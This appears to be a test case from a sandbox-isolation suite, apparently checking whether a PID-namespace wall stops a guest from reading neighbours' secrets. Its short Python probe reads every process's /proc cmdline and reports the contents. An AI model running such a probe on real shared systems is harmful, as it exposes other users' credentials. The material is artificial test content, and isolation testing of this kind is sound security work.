# guest: reads the command lines of the host
# source: vm0-ai/vm0 #14692
# attacks: secrets of neighbours
# walls: PidNs
# observer: command_line_in_output
# oracle: a secret on a neighbour's command line comes out
# status: ok
# credit: 2
import os

from attack import tell

for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            tell(name, open("/proc/%s/cmdline" % name).read()[:200])
        except OSError:
            continue
